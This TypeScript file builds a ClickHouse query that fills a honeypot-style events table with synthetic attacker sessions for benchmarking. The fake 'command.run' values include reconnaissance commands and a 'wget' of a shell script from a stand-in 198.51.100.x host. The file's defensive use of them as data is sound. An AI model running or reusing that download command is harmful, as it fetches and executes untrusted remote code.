/** SQL that makes synthetic events: Zipf-like sources and networks over 30 days, in sessions of eight events. */
export const generate = (from: number, count: number): string => `
INSERT INTO skep.events (id, sensor, boot, seq, time, session, service, transport, source_ip, source_port, target_port, kind,
  received, provenance, prefix, asn, asns, as_name, economy, snapshot, method, user, secret, accepted, line, exit_code, ident, hassh)
WITH number AS n, intDiv(n, 8) AS s, n % 8 AS step,
  toUInt32(200000 * pow(intHash32(s) / 4294967296., 3)) AS source,
  toUInt32(5000 * pow(intHash32(source) / 4294967296., 2)) AS network,
  toDateTime64('2026-10-01 00:00:00', 6, 'UTC') + toIntervalMicrosecond(toUInt64(s * (30 * 86400 * 1000000. / {total}) * 8 + step * 350000)) AS at,
  lower(leftPad(hex(toUnixTimestamp64Milli(at)), 12, '0')) AS stamp, lower(leftPad(hex(toUInt64(n)), 10, '0')) AS serial
SELECT toUUID(concat(substring(stamp, 1, 8), '-', substring(stamp, 9, 4), '-7', substring(serial, 1, 3), '-8', substring(serial, 4, 3), '-', substring(serial, 7, 4), lower(leftPad(hex(toUInt32(intHash32(s % 400))), 8, '0')))), concat('straw-', toString(s % 400)),
  toUUID('01900000-0000-7000-8000-000000000000'), n, at, reinterpretAsUUID(unhex(concat(hex(intHash64(s)), leftPad(hex(s), 16, '0')))),
  ['ssh', 'ssh', 'ssh', 'telnet', 'http', 'redis', 'any'][s % 7 + 1] AS service, 'tcp',
  toIPv6(concat('::ffff:', IPv4NumToString(toUInt32(16777216 + source * 977)))), 1024 + intHash32(s) % 60000,
  [22, 22, 22, 23, 80, 6379, 5060][s % 7 + 1],
  ['session.open', 'client.hello', 'auth.attempt', 'auth.attempt', 'command.run', 'command.run', 'payload.seen', 'session.close'][step + 1] AS kind,
  at, 'live', concat(toString(network % 220), '.', toString(network % 250), '.0.0/16'), network + 1, [network + 1], concat('Network ', toString(network)),
  ['CN', 'US', 'IN', 'VN', 'ID', 'BR', 'RU', 'DE', 'TH', 'JP'][network % 10 + 1], 'bench', 'password',
  ['root', 'admin', 'test'][s % 3 + 1], if(kind = 'auth.attempt', toString(intHash32(s) % 20000), ''), step = 3,
  if(kind = 'command.run', ['uname -a', 'cat /proc/cpuinfo | grep name | wc -l', concat('wget http://198.51.100.', toString(s % 250), '/x.sh')][s % 3 + 1], ''), 0,
  if(kind = 'client.hello', 'SSH-2.0-Go', ''), if(kind = 'client.hello', lower(hex(MD5(toString(s % 60)))), '')
FROM numbers(${from}, ${count})`
